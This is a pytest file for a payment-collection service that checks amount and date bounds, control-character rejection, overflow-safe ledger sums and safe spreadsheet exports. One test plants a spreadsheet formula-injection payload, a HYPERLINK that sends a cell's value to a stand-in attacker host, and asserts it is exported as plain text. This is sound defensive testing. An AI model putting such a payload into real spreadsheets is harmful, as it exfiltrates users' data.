"""Bounded input and checked arithmetic in collection: amounts up to 10¹³ ₫ and dates from 1900 to today
(payments) in API bodies, statement rows and services; no control characters in statement cells; ids beyond
the database's range refused; sums over many bills that never wrap around 2⁶³; downloads named in any script;
spreadsheet cells that are never formulas; no cache of the bill's QR code."""

from __future__ import annotations

import io
from datetime import date, timedelta
from urllib.parse import quote

import polars as pl
import pytest
from sqlalchemy import func, select

from ansinh import clock
from ansinh.auth.models import OrgUnit
from ansinh.bounds import MAX_AMOUNT
from ansinh.collection import arrears, ledger, payments
from ansinh.collection.ledger import Entry, UnbalancedTransaction
from ansinh.collection.models import BANK, PREPAYMENT, LedgerEntry, Payment
from ansinh.errors import ValidationFailed
from tests.collection import trust_fixtures as tf
from tests.collection.arrears_fixtures import make_bill, make_employer
from tests.conftest import api_token

HEADER = "date,amount,payer_account,reference,bank_transaction_id,receiving_account\n"


@pytest.fixture(autouse=True)
def accounts(monkeypatch):
    monkeypatch.setenv(payments.ACCOUNTS_ENV, tf.ACCOUNTS)


@pytest.fixture
def admin(client, org, make_user):
    tf.make_users(make_user, org)
    return api_token(client, "vn.quantri")


def payment_count(db) -> int:
    with db.unit_of_work() as s:
        return s.scalar(select(func.count()).select_from(Payment))


# --- payments through the API -------------------------------------------------------------------------------

@pytest.mark.parametrize("change, field", [
    ({"amount": 9_200_000_000_000_000_000}, "amount"),
    ({"amount": MAX_AMOUNT + 1}, "amount"),
    ({"amount": 0}, "amount"),
    ({"paid_on": "0001-01-01"}, "paid_on"),
    ({"paid_on": "1899-12-31"}, "paid_on"),
])
def test_a_payment_beyond_the_bounds_is_refused(client, db, admin, change, field):
    body = {"bank_transaction_id": "B-1", "paid_on": "2025-04-01", "amount": 1_000, **change}
    answer = client.post("/api/v1/payments", json=body, headers=admin)
    assert answer.status_code == 422, answer.text
    assert field in str(answer.json()["error"])
    assert payment_count(db) == 0


def test_a_payment_dated_after_today_is_refused(client, db, admin):
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    answer = client.post("/api/v1/payments", json={"bank_transaction_id": "B-2", "paid_on": tomorrow,
                                                   "amount": 1_000}, headers=admin)
    assert answer.status_code == 422 and answer.json()["error"]["field"] == "paid_on"
    assert payment_count(db) == 0


def test_the_largest_payment_is_accepted_and_many_of_them_do_not_overflow(session):
    for number in range(3):
        payments.record_payment(session, bank_transaction_id=f"MAX-{number}", paid_on=date(2025, 4, 1),
                                amount=MAX_AMOUNT, on=date(2025, 4, 20))
    assert ledger.balance(session, BANK) == 3 * MAX_AMOUNT
    with pytest.raises(ValidationFailed) as refused:
        payments.record_payment(session, bank_transaction_id="MAX-4", paid_on=date(2025, 4, 1),
                                amount=MAX_AMOUNT + 1, on=date(2025, 4, 20))
    assert refused.value.field == "amount"
    with pytest.raises(ValidationFailed) as refused:
        payments.record_payment(session, bank_transaction_id="OLD-1", paid_on=date(1, 1, 1), amount=1,
                                on=date(2025, 4, 20))
    assert refused.value.field == "paid_on"


@pytest.mark.parametrize("url, body", [
    ("/api/v1/payments/9223372036854775808/assign", {"payer_key": "E:1"}),
    ("/api/v1/inspections/9223372036854775808/payments", {"payment_id": 1}),
    ("/api/v1/inspections/1/payments", {"payment_id": 9223372036854775808}),
    ("/api/v1/inspections", {"employer_id": 9223372036854775808}),
    ("/api/v1/inspections", {"employer_id": 1, "opened_on": "0001-01-01"}),
    ("/api/v1/inspections/1/decisions", {"kind": "fine", "amount": 9_200_000_000_000_000_000}),
    ("/api/v1/inspections/1/decisions", {"kind": "payment_plan", "amount": 1, "due": "0001-01-01"}),
    ("/api/v1/bills/1/write-offs", {"amount": MAX_AMOUNT + 1, "reason": "x"}),
    ("/api/v1/bills/1/write-offs", {"amount": 1, "reason": "x", "on": "0001-01-01"}),
    ("/api/v1/payments/1/assign", {"payer_key": "E:99999999999999999999999"}),
    ("/api/v1/billing/runs", {"period": "9999-12"}),
    ("/api/v1/billing/runs", {"period": "0001-01"}),
])
def test_ids_amounts_and_dates_in_bodies_are_bounded(client, admin, url, body):
    answer = client.post(url, json=body, headers=admin)
    assert answer.status_code == 422, answer.text


def test_the_inspection_form_bounds_its_amount_and_payment(client, db, org, make_user):
    from tests.collection.test_scope import _signed_in

    tf.make_users(make_user, org)
    with db.unit_of_work() as s:
        from ansinh.collection import inspections

        employer = make_employer(s, s.get(OrgUnit, org.hanoi.id), "Công ty Giới Hạn")
        case_id = inspections.open_case(s, None, employer_id=employer.id, on=date(2025, 5, 2)).id
    csrf = _signed_in(client, "vn.quantri")
    html = {"Accept": "text/html"}
    too_much = client.post(f"/collection/inspections/{case_id}/decisions", headers=html,
                           data={"kind": "fine", "amount": "9" * 15, "csrf_token": csrf})
    beyond = client.post(f"/collection/inspections/{case_id}/payments", headers=html,
                         data={"payment_id": "9" * 19, "csrf_token": csrf})
    assert (too_much.status_code, beyond.status_code) == (422, 422)


# --- statement rows -----------------------------------------------------------------------------------------

def test_statement_rows_beyond_the_bounds_or_with_control_characters_are_refused(session):
    """Control characters are refused first, for the whole file and every cell that holds one (the rule of every
    import); a file without them is then checked row by row against the bounds."""
    controlled = (HEADER
                  + f"2025-04-02,1000,,a\x00b,R-3,{tf.HANOI_ACCOUNT}\n"
                  + f"2025-04-02,1000,,x,R-4\x01,{tf.HANOI_ACCOUNT}\n").encode()
    report = payments.import_statement(session, content=controlled, file_name="control.csv", actor="t",
                                       today=date(2025, 4, 20))
    assert report.status == "rejected"
    assert [(e.row, e.column) for e in report.errors] == [(2, "reference"), (3, "bank_transaction_id")]
    assert "\x00" not in report.errors[0].value and report.errors[0].value == "a\\x00b"
    assert report.errors[0].reason_en.startswith("The cell contains control characters (such as NUL)")

    content = (HEADER
               + f"2025-04-02,9200000000000000000,,x,R-1,{tf.HANOI_ACCOUNT}\n"
               + f"0001-01-01,1000,,x,R-2,{tf.HANOI_ACCOUNT}\n"
               + f"2025-04-02,{MAX_AMOUNT},,x,R-5,{tf.HANOI_ACCOUNT}\n").encode()
    report = payments.import_statement(session, content=content, file_name="bounds.csv", actor="t",
                                       today=date(2025, 4, 20))
    assert report.status == "rejected"
    assert [(e.row, e.column) for e in report.errors] == [(2, "amount"), (3, "date")]
    assert report.errors[0].reason_en == f"The amount is larger than {MAX_AMOUNT:,} dong."
    assert report.errors[1].reason_en == "The date is before 1 Jan 1900."
    assert report.errors[1].reason_vi == "Ngày trước 01/01/1900."
    assert session.scalar(select(func.count()).select_from(Payment)) == 0


# --- checked arithmetic -------------------------------------------------------------------------------------

def test_a_countrys_totals_never_wrap_around_64_bits(session, org):
    hanoi = session.get(OrgUnit, org.hanoi.id)
    employer = make_employer(session, hanoi, "Công ty Rất Lớn")
    huge = 5 * 10**18  # two such bills are beyond 2⁶³ − 1
    for month in (1, 2):
        make_bill(session, payer_key=f"E:{employer.id}", period=date(2025, month, 1),
                  due=date(2025, month, 20), total=huge, unit=hanoi, province="01", employer_id=employer.id)
    report = arrears.arrears_report(session, None, on=date(2025, 6, 1))
    assert report["due"] == report["arrears"] == 2 * huge  # not −8.4×10¹⁸
    assert report["arrears_by_age"]["3+"] == 2 * huge
    debtors = arrears.debtor_list(session, None, on=date(2025, 6, 1))
    assert debtors[0]["arrears"] == 2 * huge and debtors[0]["total"] > 2 * huge  # with the interest


def test_a_transaction_that_balances_only_by_wrapping_around_is_refused(session):
    frame = pl.DataFrame({"txn": ["t1"] * 4, "account": [BANK] * 4,  # 2⁶⁴ dong: a 64-bit sum says 0
                          "amount": [2**62] * 4, "posted_on": [date(2025, 1, 1)] * 4,
                          "source_type": ["payment"] * 4},
                         schema={"txn": pl.String, "account": pl.String, "amount": pl.Int64,
                                 "posted_on": pl.Date, "source_type": pl.String})
    assert frame["amount"].sum() == 0  # what a 64-bit sum says
    with pytest.raises(UnbalancedTransaction):
        ledger.post_frame(session, frame)
    with pytest.raises(ValueError):
        ledger.post(session, [Entry(BANK, 2**63), Entry(PREPAYMENT, -(2**63))], posted_on=date(2025, 1, 1),
                    source_type="payment")
    assert session.scalar(select(func.count()).select_from(LedgerEntry)) == 0


# --- downloads ----------------------------------------------------------------------------------------------

def test_a_debtor_list_of_a_province_named_in_vietnamese_downloads(client, admin):
    answer = client.get("/api/v1/arrears/debtors.xlsx", params={"province": "Hà Nội", "on": "2025-06-01"},
                        headers=admin)
    assert answer.status_code == 200, answer.text
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="debtors-H__N_i-2025-06-01.xlsx"')  # ASCII fallback
    assert f"filename*=UTF-8''{quote('debtors-Hà Nội-2025-06-01.xlsx', safe='')}" in disposition
    assert answer.headers["cache-control"] == "no-store"


def test_a_name_typed_as_a_formula_stays_text_in_the_debtor_list(client, admin, db, org):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with db.unit_of_work() as s:
        hanoi = s.get(OrgUnit, org.hanoi.id)
        employer = make_employer(s, hanoi, formula, address="@SUM(1+1)")
        make_bill(s, payer_key=f"E:{employer.id}", period=date(2025, 1, 1), due=date(2025, 1, 31),
                  total=7_000_000, unit=hanoi, province="01", employer_id=employer.id)
    answer = client.get("/api/v1/arrears/debtors.xlsx", params={"on": "2025-06-01"}, headers=admin)
    sheet = pl.read_excel(io.BytesIO(answer.content), has_header=False)
    cells = [v for row in sheet.iter_rows() for v in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert formula not in cells


def test_the_bill_qr_code_is_not_cached(client, admin, db, org):
    with db.unit_of_work() as s:
        hanoi = s.get(OrgUnit, org.hanoi.id)
        employer = make_employer(s, hanoi, "Công ty Mã QR")
        bill = make_bill(s, payer_key=f"E:{employer.id}", period=date(2025, 1, 1), due=date(2025, 1, 31),
                         total=7_000_000, unit=hanoi, province="01", employer_id=employer.id)
        bill_id = bill.id
    answer = client.get(f"/api/v1/bills/{bill_id}/qr.svg", headers=admin)
    assert answer.status_code == 200 and answer.headers["cache-control"] == "no-store"
